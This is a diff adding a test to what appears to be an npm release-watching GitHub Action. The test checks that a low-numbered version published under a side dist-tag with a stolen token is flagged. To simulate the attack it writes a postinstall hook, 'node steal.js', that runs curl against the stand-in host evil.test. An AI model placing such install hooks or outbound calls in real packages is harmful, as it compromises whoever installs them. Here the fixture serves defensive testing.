@@ -148,3 +148,20 @@ def test_watch_without_a_github_token_fails_closed(release) -> None:  # noqa: F8
     result = run_action(rel.ws, env, {}, home=rel.home, inputs={"mode": "watch", "registry": rel.verdaccio.url})
     assert result.returncode == 2, result.describe()
     assert "issues: write" in result.stderr
+
+
+def test_a_version_below_watch_since_published_after_the_watch_began_is_flagged(release) -> None:  # noqa: F811
+    """`watch.since: 1.0.0` says where the watch begins, not which versions a stolen token may publish unseen: a
+    0.9.9 published later under another dist-tag (so `latest` does not move) is still an unexpected release."""
+    rel = release()
+    policy = "watch:\n  since: 1.0.0\n"
+    (rel.ws / ".github/npm-gatekeeper.yml").write_text(policy)
+    gated = rel.run()
+    assert gated.returncode == 0, gated.describe()
+    assert _watch(rel, policy=policy).returncode == 0
+    _set_version(rel.ws, "0.9.9", scripts={"postinstall": "node steal.js"})
+    (rel.ws / "steal.js").write_text("require('child_process').exec('curl https://evil.test')\n")
+    rel.verdaccio.publish(rel.ws, rel.token, tag="legacy")
+    result = _watch(rel, policy=policy)
+    assert result.returncode == 1, result.describe()
+    assert result.outputs["unexpected"] == f"{rel.name}@0.9.9"
